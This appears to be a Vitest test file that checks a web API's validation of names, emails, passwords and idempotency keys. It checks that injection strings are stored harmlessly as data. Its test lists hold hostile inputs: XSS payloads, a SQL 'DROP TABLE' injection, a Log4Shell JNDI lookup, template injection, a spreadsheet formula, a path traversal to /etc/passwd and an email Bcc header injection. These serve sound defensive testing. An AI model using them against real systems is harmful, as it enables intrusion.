import { beforeAll, describe, expect, inject, it } from 'vitest';
import { type Account, Api } from './support/api.ts';
import { expectClearError } from './support/expect-clear-error.ts';
import { validRequests } from './support/valid-requests.ts';

const api = new Api(inject('applicationUrl'));

let account: Account;
let before: Awaited<ReturnType<Api['readAccount']>>;
beforeAll(async () => {
  account = await api.register();
  before = await api.readAccount(account.token);
});

/** Texts that can make a name look like another one, or that a database or a log can't hold. */
const refusedNames: Record<string, string> = {
  'a zero byte': 'Ada\u0000',
  'a line break': 'Ada\nLovelace',
  'an escape sequence of a terminal': 'Ada\u001b[2J',
  'a right-to-left override': 'Ada\u202egnp.exe',
  'a directional isolate': 'Ada\u2066x\u2069',
  'half a surrogate pair': 'Ada\ud800',
  'one letter': 'A',
  'one letter and white space': '  A  ',
  'white space alone': ' \u00a0\u3000 ',
  '151 letters': 'A'.repeat(151),
  '50 kB': 'A'.repeat(50_000),
};

describe.each(Object.entries(refusedNames))('a name with %s', (_, name) => {
  it('is refused at registration and in the profile, by its field, and nothing is kept', async () => {
    for (const field of ['first_name', 'last_name']) {
      for (const routeId of ['register', 'update-profile'] as const) {
        const body = { ...validRequests[routeId].body, [field]: name };
        const answer = await api.call(routeId, { token: account.token, body });
        expect(expectClearError(answer, 'validation_failed').errors).toHaveProperty(field);
      }
    }
    expect(await api.readAccount(account.token)).toEqual(before);
  });
});

describe('a text of 100 kB', () => {
  it('is refused in every field as too large', async () => {
    for (const routeId of ['register', 'update-profile', 'change-password', 'login'] as const) {
      for (const field of Object.keys(validRequests[routeId].body ?? {})) {
        const body = { ...validRequests[routeId].body, [field]: 'x'.repeat(100_000) };
        expectClearError(await api.call(routeId, { token: account.token, body }), 'payload_too_large');
      }
    }
  });
});

/** Names that are somebody's, or harmless where they are shown as text. */
const keptNames = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  "Robert'); DROP TABLE premia;--",
  '\u0024{jndi:ldap://example.com/a}',
  '=HYPERLINK("https://example.com")',
  '../../etc/passwd',
  '李小龍',
  'محمد',
  'Zoë',
  '👩‍👩‍👧',
  "O'Brien-Smith",
];

describe.each(keptNames)('the name %s', (name) => {
  it('is data, and comes back letter by letter as JSON', async () => {
    const { token } = await api.register({ first_name: name });
    const changed = await api.call('update-profile', {
      token,
      body: { ...validRequests['update-profile'].body, first_name: name, last_name: name },
    });
    expect(changed.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(changed.headers['x-content-type-options']).toBe('nosniff');
    expect((await api.readAccount(token)).profile).toMatchObject({ first_name: name, last_name: name });
  });
});

describe('an email address', () => {
  it.each([
    'no-at.example.com',
    'two@@example.com',
    'a@b@example.com',
    '@example.com',
    'ada@',
    'ada@example',
    'ada lovelace@example.com',
    'ada@example.com\nBcc: all@example.com',
    'ada@example.com\u0000',
    `${'a'.repeat(250)}@example.com`,
    'ada@exam\u202eple.com',
  ])('of %j is refused', async (email) => {
    const body = { ...validRequests.register.body, email };
    const answer = await api.call('register', { body });
    expect(expectClearError(answer, 'validation_failed').errors).toHaveProperty('email');
  });

  it('is the same account in any case and with white space around it', async () => {
    const body = { ...validRequests.register.body, email: `  ${account.email.toUpperCase()} ` };
    expectClearError(await api.call('register', { body }), 'email_taken');
    await api.logIn({ ...account, email: ` ${account.email.toUpperCase()}` });
  });
});

describe('a password', () => {
  it('of more than 72 bytes is refused, never cut', async () => {
    const long = `Aa1${'é'.repeat(35)}`;
    const body = { ...validRequests.register.body, password: long, confirm_password: long };
    const answer = await api.call('register', { body });
    expect(expectClearError(answer, 'validation_failed').errors).toHaveProperty('password');
  });

  it('is compared to its last byte, spaces and zero bytes included', async () => {
    const password = ` Aa1\u0000${'x'.repeat(66)}y`;
    const { email } = await api.register({ password, confirm_password: password });
    for (const wrong of [password.slice(0, -1), password.trim(), ' Aa1', `${password}z`]) {
      expectClearError(await api.call('login', { body: { email, password: wrong } }), 'invalid_credentials');
    }
    await api.logIn({ email, password });
  });
});

describe('an Idempotency-Key', () => {
  it.each(['x'.repeat(129), 'with space', 'é', '\u0007'].map((key) => Buffer.from(key).toString('latin1')))(
    'of %j is refused by name, and nothing is kept',
    async (key) => {
      const answer = await api
        .call('predict-car-premium', { token: account.token, headers: { 'idempotency-key': key } })
        .catch((error: NodeJS.ErrnoException) => error);
      // Node's own client does not send control characters.
      if (answer instanceof Error) expect(answer.message).toMatch(/invalid character/i);
      else expect(expectClearError(answer, 'validation_failed').errors).toHaveProperty('idempotency-key');
      expect(await api.readAccount(account.token)).toEqual(before);
    },
  );
});
